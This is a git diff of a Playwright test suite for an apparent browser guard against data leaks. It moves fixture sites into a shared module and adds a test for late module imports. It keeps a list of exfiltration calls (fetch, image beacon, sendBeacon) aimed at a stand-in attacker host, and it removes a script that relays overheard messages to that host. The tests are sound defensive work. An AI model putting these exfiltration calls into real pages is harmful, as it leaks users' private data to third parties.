@@ -4,23 +4,24 @@ import { after, before, describe, test } from 'node:test';
 import { playwrightHands } from '../agents/playwright.mjs';
 import { until } from '../agents/tasks.mjs';
 import { PREPARE, SECRETS, sceneOf } from '../attacks/attempt.mjs';
-import { file, json, page, raw } from '../sites/html.mjs';
 import { leaked } from '../sites/leaks.mjs';
+import {
+  APP,
+  EAR,
+  ELSEWHERE,
+  reached as extra,
+  MADE_OF,
+  PAY,
+  PAY_API,
+  PICKER,
+  PIECES,
+  SLOW,
+  TRAINS,
+} from '../sites/reached.mjs';
 import { flagsFor, startSites } from '../sites/server.mjs';
 import { HOSTS, urlOf } from '../sites/world.mjs';
 import { extension } from './with-guard.mjs';
 
-const [TRAINS, API, PICTURES] = ['trains.example', 'trains-api.example', 'trains-pictures.example'];
-const [PAY, PAY_CODE, PAY_API] = ['payframe.example', 'payframe-code.example', 'payframe-api.example'];
-const [APP, EAR] = ['signedin.example', 'ear.example'];
-/** Tells what it hears to where it likes. */
-const EAR_SCRIPT = `const tell = (what) => fetch('http://${HOSTS.attacker}/c/heard?d=' + encodeURIComponent(what), { mode: 'no-cors' });
-onmessage = ({ data, ports: [port] }) => { tell(data); if (port) port.onmessage = (event) => tell(event.data); };
-parent.postMessage('listening', '*');`;
-const [SLOW, SLOW_CODE] = ['slow.example', 'slow-code.example'];
-const ELSEWHERE = 'elsewhere.example';
-const PIECES = 'pieces.example';
-const PICKER = 'picker.example';
 const ATTACKER = `http://${HOSTS.attacker}`;
 const PLAIN_WAYS = [
   `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
@@ -28,57 +29,9 @@ const PLAIN_WAYS = [
   `new Image().src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
   `navigator.sendBeacon('${ATTACKER}/c', D)`,
 ];
-/** Later than any document is fresh, parsed or not. */
-const STALE_MS = 4_300;
 /** Of the rules by which a fresh document or frame loads what it is made of. */
 const FRESH_PRIORITY = 30;
 
-/** Written by script, from an interface and with pictures that are elsewhere. */
-const LIST = `<button>Search</button><ul></ul><script>document.querySelector('button').onclick = async () => {
-  const found = await (await fetch('http://${API}/search', { method: 'POST', body: 'from=Galway' })).json();
-  document.querySelector('ul').innerHTML = found.map((t) => '<li>' + t + '<img src="http://${PICTURES}/' + t + '.svg" width="20" height="20">').join('');
-};</script>`;
-/** What a payment provider's frame is made of comes from another domain of its; told to, it asks for more. */
-const PAY_SCRIPT = `document.querySelector('p').textContent = 'card number';
-fetch('http://${PAY_API}/', { method: 'POST', body: '{}' }).then(() => parent.postMessage('made', '*'));
-onmessage = () => import('http://${ELSEWHERE}/late.js').catch(() => {});`;
-const open = { 'access-control-allow-origin': '*' };
-const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"/>';
-const extra = {
-  [TRAINS]: ({ path }) =>
-    path === '/plan.svg' ? file('image/svg+xml', SVG) : page({ title: 'Trains', name: 'Trains', body: raw(LIST) }),
-  [API]: () => json(['seven', 'nine'], open),
-  [PICTURES]: () => file('image/svg+xml', SVG, open),
-  [PAY]: ({ path }) =>
-    path === '/sdk.js'
-      ? file('text/javascript', '', open)
-      : page({
-          title: 'Card',
-          name: 'Card',
-          body: raw(`<p>no card yet</p><script src="http://${PAY_CODE}/pay.js"></script>`),
-        }),
-  [EAR]: () => page({ title: 'Ear', name: 'Ear', body: raw(`<script>${EAR_SCRIPT}</script>`) }),
-  [APP]: () =>
-    page({
-      title: 'Your plan',
-      name: 'App',
-      body: raw(`<a href="/logout">Sign out</a><p>Plan: Harbour 7</p><script src="http://${PAY}/sdk.js"></script>`),
-    }),
-  [SLOW]: async () => {
-    await new Promise((later) => setTimeout(later, STALE_MS));
-    return page({
-      title: 'Slow',
-      name: 'Slow',
-      body: raw(`<p>bare</p><script src="http://${SLOW_CODE}/made.js"></script>`),
-    });
-  },
-  [SLOW_CODE]: () => file('text/javascript', "document.querySelector('p').textContent = 'made of its code'", open),
-  [PAY_API]: () => json({}, open),
-  [PAY_CODE]: () => file('text/javascript', PAY_SCRIPT, open),
-  [ELSEWHERE]: () => json([], open),
-  [PICKER]: () => file('text/html', "<script>opener.postMessage('chosen', '*'); close();</script>"),
-  [PIECES]: () => file('text/javascript', 'export const name = "editor"', open),
-};
 const LOADED = '[...document.images].filter((i) => i.naturalWidth > 0).length';
 
 describe('after a private read at the bank, where nobody is signed in', () => {
@@ -111,6 +64,17 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     await hands.click({ button: 'Search' });
     await until(async () => (await hands.read()).includes('nine'), 'what the interface said');
     await until(async () => (await hands.run(LOADED)) === 2, 'pictures that a script wrote');
+  });
+
+  test('a page is made of modules that import others from elsewhere, and gets a further one at the second try', {
+    timeout: 60_000,
+  }, async () => {
+    const { hands } = scene;
+    await hands.goto(`http://${MADE_OF}/`);
+    await until(async () => (await hands.read()).includes('made of modules'), 'what its modules make', 5_000);
+    await closed();
+    const piece = () => hands.run(`import('http://${PIECES}/editor.js').then(({ name }) => name, () => 'no')`);
+    await until(async () => (await piece()) === 'editor', 'a module asked for late', 10_000);
   });
 
   test('a page whose server takes its time is made of what it loads, also where another one was left for it', {
